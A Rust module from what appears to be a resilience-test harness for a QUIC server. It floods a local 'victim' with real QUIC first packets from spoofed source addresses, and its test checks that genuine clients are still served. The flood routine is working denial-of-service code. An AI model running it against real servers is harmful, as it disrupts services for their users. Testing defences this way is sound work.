//! First packets of QUIC clients with forged source addresses: no second packet follows.

use std::io;
use std::net::{Ipv4Addr, SocketAddr, UdpSocket};
use std::sync::atomic::Ordering::Relaxed;
use std::time::Duration;

use quinn::udp::Transmit;
use quinn::{Runtime, TokioRuntime};
use tokio::time::{Instant, MissedTickBehavior};

use super::{Scale, Tally, attacker};
use crate::victim::Victim;

/// Number of different packets, which are sent in turn.
const DIFFERENT: usize = 10_000;
/// Time between two bursts of packets.
const TICK: Duration = Duration::from_millis(1);

/// The first packets of `count` clients; only an answer to a Retry would distinguish good clients.
fn first_packets(victim: &Victim, count: usize) -> io::Result<Vec<Vec<u8>>> {
    let config = victim.quic_config(quinn::TransportConfig::default());
    let mut endpoint = quinn_proto::Endpoint::new(std::sync::Arc::default(), None, false, None);
    let mut packets = Vec::new();
    for _ in 0..count {
        let now = TokioRuntime.now();
        let (_, mut connection) = endpoint
            .connect(now, config.clone(), victim.address, "localhost")
            .map_err(io::Error::other)?;
        let mut packet = Vec::new();
        if connection.poll_transmit(now, 1, &mut packet).is_none() {
            return Err(io::Error::other("a client has no first packet"));
        }
        packets.push(packet);
    }
    Ok(packets)
}

/// Sends first packets at the rate of `scale`, each from the next of its addresses.
pub(super) async fn flood(victim: &Victim, scale: Scale, tally: &Tally) -> io::Result<()> {
    // Few of them match an existing handshake, because the server has at most some hundred in progress.
    let packets = first_packets(victim, DIFFERENT.min(scale.addresses))?;
    let any = SocketAddr::from((Ipv4Addr::UNSPECIFIED, 0));
    // The answers are not read, as with addresses that are not the attacker's.
    let socket = TokioRuntime.wrap_udp_socket(UdpSocket::bind(any)?)?;
    let mut ticks = tokio::time::interval(TICK);
    ticks.set_missed_tick_behavior(MissedTickBehavior::Delay);
    let began = Instant::now();
    let mut sent = 0_usize;
    loop {
        ticks.tick().await;
        let due = began.elapsed().as_secs_f64() * scale.rate - sent as f64;
        // Packets that could not be sent in time are not sent later in one burst.
        let mut burst = due.min((scale.rate * TICK.as_secs_f64() * 20.0).max(1.0));
        while burst >= 1.0 {
            burst -= 1.0;
            let transmit = Transmit {
                destination: victim.address,
                ecn: None,
                contents: &packets[sent % packets.len()],
                segment_size: None,
                src_ip: Some(attacker(sent % scale.addresses).into()),
            };
            // A full socket drops packets, as any link does.
            let _ = socket.try_send(&transmit);
            sent += 1;
            tally.actions.fetch_add(1, Relaxed);
        }
    }
}

#[cfg(test)]
mod tests {
    use std::sync::atomic::Ordering::Relaxed;

    use playrate_test_support::PATIENCE;
    use tokio::time::Instant;

    use crate::attacks::{Attack, Scale};
    use crate::beside::{assert_ends_in_order, deadline, start};
    use crate::good::{Over, fetch};
    use crate::rig::Attacking;

    /// First packets from 1,000 addresses, without any second packet.
    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn a_flood_of_forged_first_packets_locks_no_client_out() {
        let rig = start(&["--max-connections", "32"]);
        let scale = Scale {
            connections: 1,
            addresses: 1_000,
            rate: 500.0,
        };
        let attacking = Attacking::begin(&rig.victim, Attack::Initials, scale);
        let latest = deadline();
        let retried = || rig.server.metric("playrate_retried_handshakes_total");
        while attacking.tally.actions.load(Relaxed) < 1_000 || retried() <= 500 {
            assert!(Instant::now() < latest, "the flood is too slow");
            fetch(&rig.victim, Over::Quic, PATIENCE).await.unwrap();
        }
        attacking.stop().await.unwrap();
        fetch(&rig.victim, Over::Quic, PATIENCE).await.unwrap();
        assert_eq!(rig.server.metric("playrate_refused_connections_total"), 0);
        assert_ends_in_order(rig).await;
    }
}
